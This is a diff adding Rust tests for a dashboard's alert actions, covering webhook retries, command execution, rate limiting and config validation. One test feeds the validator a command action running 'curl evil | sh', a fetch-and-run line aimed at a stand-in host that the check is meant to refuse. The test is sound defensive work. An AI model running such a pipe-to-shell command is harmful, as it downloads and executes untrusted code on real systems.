@@ -0,0 +1,287 @@
+use rust_dashboard_lib::actions::{run_action, ActionDispatcher, ActionKind, AlertAction};
+use rust_dashboard_lib::alerts::{
+    check_configured_commands, AlertEngine, AlertEvent, AlertRule, AlertState,
+};
+use rust_dashboard_lib::error::DashboardError;
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::TcpListener;
+use std::thread;
+use std::time::{Duration, Instant};
+
+fn event() -> AlertEvent {
+    AlertEvent {
+        rule: "busy worker".to_string(),
+        state: AlertState::Firing,
+        matches: vec!["worker".to_string(), "helper".to_string()],
+        message: "busy worker: worker, helper match `cpu > 90`".to_string(),
+    }
+}
+
+fn quick(kind: ActionKind) -> AlertAction {
+    AlertAction {
+        retry_delay_ms: 10,
+        ..AlertAction::new(kind)
+    }
+}
+
+/// Accepts one connection per status in `statuses` on `bind`, answers
+/// with it and returns each request's `Host` header and body.
+fn stand_in_at(
+    bind: &str,
+    path: &str,
+    statuses: &'static [u16],
+) -> (String, thread::JoinHandle<Vec<(String, String)>>) {
+    let listener = TcpListener::bind(bind).unwrap();
+    let url = format!("http://{}{}", listener.local_addr().unwrap(), path);
+    let handle = thread::spawn(move || {
+        let mut requests = Vec::new();
+        for status in statuses {
+            let (stream, _) = listener.accept().unwrap();
+            let mut reader = BufReader::new(stream);
+            let mut length = 0;
+            let mut host = String::new();
+            loop {
+                let mut line = String::new();
+                reader.read_line(&mut line).unwrap();
+                if line.trim().is_empty() {
+                    break;
+                }
+                let lower = line.to_ascii_lowercase();
+                if let Some(value) = lower.strip_prefix("content-length:") {
+                    length = value.trim().parse().unwrap();
+                }
+                if lower.starts_with("host:") {
+                    host = line[5..].trim().to_string();
+                }
+            }
+            let mut body = vec![0; length];
+            reader.read_exact(&mut body).unwrap();
+            requests.push((host, String::from_utf8(body).unwrap()));
+            write!(
+                reader.get_mut(),
+                "HTTP/1.1 {} X\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
+                status
+            )
+            .unwrap();
+        }
+        requests
+    });
+    (url, handle)
+}
+
+/// `stand_in_at` on IPv4 loopback, returning just the request bodies.
+fn stand_in(statuses: &'static [u16]) -> (String, thread::JoinHandle<Vec<String>>) {
+    let (url, server) = stand_in_at("127.0.0.1:0", "/hook", statuses);
+    let handle = thread::spawn(move || {
+        let requests = server.join().unwrap();
+        requests.into_iter().map(|(_, body)| body).collect()
+    });
+    (url, handle)
+}
+
+#[test]
+fn test_webhook_retries_server_errors() {
+    let (url, server) = stand_in(&[500, 200]);
+    let action = quick(ActionKind::Webhook { url });
+    assert_eq!(run_action(&action, &event(), None), Ok(2));
+    let bodies = server.join().unwrap();
+    assert_eq!(bodies.len(), 2);
+    let json: serde_json::Value = serde_json::from_str(&bodies[1]).unwrap();
+    assert_eq!(json["rule"], "busy worker");
+    assert_eq!(json["state"], "firing");
+    assert_eq!(json["matches"][1], "helper");
+    assert!(json["timestamp"].as_f64().unwrap() > 0.0);
+}
+
+#[test]
+fn test_webhook_client_errors_are_not_retried() {
+    let (url, server) = stand_in(&[404]);
+    let action = quick(ActionKind::Webhook { url });
+    let err = run_action(&action, &event(), None).unwrap_err();
+    assert!(err.contains("404"), "{}", err);
+    assert_eq!(server.join().unwrap().len(), 1);
+}
+
+#[cfg(unix)]
+#[test]
+fn test_webhook_to_ipv6_literal() {
+    let (url, server) = stand_in_at("[::1]:0", "/hook", &[204]);
+    assert!(url.starts_with("http://[::1]:"), "{}", url);
+    let action = quick(ActionKind::Webhook { url: url.clone() });
+    assert_eq!(run_action(&action, &event(), None), Ok(1));
+    let requests = server.join().unwrap();
+    assert_eq!(
+        requests[0].0,
+        url["http://".len()..url.len() - "/hook".len()]
+    );
+}
+
+#[test]
+fn test_command_gets_env_and_json_on_stdin() {
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("alert.txt");
+    let action = quick(ActionKind::Command {
+        program: "sh".to_string(),
+        args: vec![
+            "-c".to_string(),
+            "echo \"$RDASH_ALERT_RULE|$RDASH_ALERT_STATE\" > \"$0\"; cat >> \"$0\"".to_string(),
+            out.display().to_string(),
+        ],
+        timeout_seconds: 5,
+    });
+    assert_eq!(run_action(&action, &event(), None), Ok(1));
+    let written = std::fs::read_to_string(&out).unwrap();
+    let (env, stdin) = written.split_once('\n').unwrap();
+    assert_eq!(env, "busy worker|firing");
+    let json: serde_json::Value = serde_json::from_str(stdin).unwrap();
+    assert_eq!(json["message"], event().message);
+
+    let failing = AlertAction {
+        retries: 1,
+        ..quick(ActionKind::Command {
+            program: "false".to_string(),
+            args: Vec::new(),
+            timeout_seconds: 5,
+        })
+    };
+    assert!(run_action(&failing, &event(), None).is_err());
+}
+
+#[test]
+fn test_dispatch_rate_limits_per_action_and_state() {
+    let mut dispatcher = ActionDispatcher::new();
+    dispatcher.set_notifier(|_| Ok(()));
+    let actions = [
+        AlertAction::new(ActionKind::Notify),
+        AlertAction {
+            min_interval_seconds: 0,
+            ..AlertAction::new(ActionKind::Notify)
+        },
+    ];
+    let start = Instant::now();
+    assert_eq!(dispatcher.dispatch(&actions, &event(), start), 2);
+    assert_eq!(dispatcher.dispatch(&actions, &event(), start), 1);
+    let resolved = AlertEvent {
+        state: AlertState::Resolved,
+        ..event()
+    };
+    assert_eq!(dispatcher.dispatch(&actions, &resolved, start), 2);
+    let later = start + Duration::from_secs(61);
+    assert_eq!(dispatcher.dispatch(&actions, &event(), later), 2);
+}
+
+#[test]
+fn test_actions_in_config_and_validation() {
+    let rule: AlertRule = toml::from_str(
+        r#"
+        name = "hot"
+        condition = "cpu > 90"
+
+        [[actions]]
+        type = "notify"
+
+        [[actions]]
+        type = "command"
+        program = "/usr/local/bin/page-oncall"
+        args = ["--severity", "high"]
+
+        [[actions]]
+        type = "webhook"
+        url = "http://localhost:9000/alerts"
+        min_interval_seconds = 300
+        retries = 0
+        "#,
+    )
+    .unwrap();
+    let actions = &rule.actions;
+    assert_eq!(actions.len(), 3);
+    assert_eq!(actions[0], AlertAction::new(ActionKind::Notify));
+    assert!(matches!(
+        &actions[1].kind,
+        ActionKind::Command { args, timeout_seconds: 30, .. } if args.len() == 2
+    ));
+    assert_eq!(actions[2].min_interval_seconds, 300);
+    assert_eq!(actions[2].retries, 0);
+    assert!(AlertEngine::new(&[rule]).is_ok());
+
+    let https = AlertAction::new(ActionKind::Webhook {
+        url: "https://hooks.example.com/services/x".to_string(),
+    });
+    assert!(https.validate().is_ok());
+
+    for url in ["ftp://host/x", "http://:80/", "hooks.example.com/x"] {
+        let rule = AlertRule {
+            name: "hot".to_string(),
+            condition: "cpu > 90".to_string(),
+            for_seconds: 0,
+            actions: vec![AlertAction::new(ActionKind::Webhook {
+                url: url.to_string(),
+            })],
+        };
+        match AlertEngine::new(&[rule]) {
+            Err(DashboardError::ConfigError(message)) => {
+                assert!(message.starts_with("alert rule `hot`"), "{}", message)
+            }
+            _ => panic!("{} accepted", url),
+        }
+    }
+}
+
+#[test]
+fn test_only_configured_commands_are_accepted() {
+    let page = |args: &[&str]| {
+        AlertAction::new(ActionKind::Command {
+            program: "/usr/local/bin/page-oncall".to_string(),
+            args: args.iter().map(|a| a.to_string()).collect(),
+            timeout_seconds: 30,
+        })
+    };
+    let rule = |name: &str, actions: Vec<AlertAction>| AlertRule {
+        name: name.to_string(),
+        condition: "cpu > 90".to_string(),
+        for_seconds: 0,
+        actions,
+    };
+    let configured = vec![rule("hot", vec![page(&["--severity", "high"])])];
+
+    // Conditions, timing and other actions may change; the command may
+    // stay as configured.
+    let edited = vec![AlertRule {
+        condition: "cpu > 80".to_string(),
+        for_seconds: 60,
+        ..rule(
+            "hot",
+            vec![
+                AlertAction::new(ActionKind::Notify),
+                AlertAction {
+                    min_interval_seconds: 600,
+                    ..page(&["--severity", "high"])
+                },
+            ],
+        )
+    }];
+    assert!(check_configured_commands(&edited, &configured).is_ok());
+    assert!(check_configured_commands(&[rule("hot", Vec::new())], &configured).is_ok());
+
+    // A new command, changed arguments or a command moved to another
+    // rule are refused.
+    for rules in [
+        vec![rule(
+            "hot",
+            vec![AlertAction::new(ActionKind::Command {
+                program: "/bin/sh".to_string(),
+                args: vec!["-c".to_string(), "curl evil | sh".to_string()],
+                timeout_seconds: 30,
+            })],
+        )],
+        vec![rule("hot", vec![page(&["--severity", "low"])])],
+        vec![rule("other", vec![page(&["--severity", "high"])])],
+    ] {
+        match check_configured_commands(&rules, &configured) {
+            Err(DashboardError::ConfigError(message)) => {
+                assert!(message.contains("config.toml"), "{}", message)
+            }
+            other => panic!("{:?} accepted: {:?}", rules, other),
+        }
+    }
+}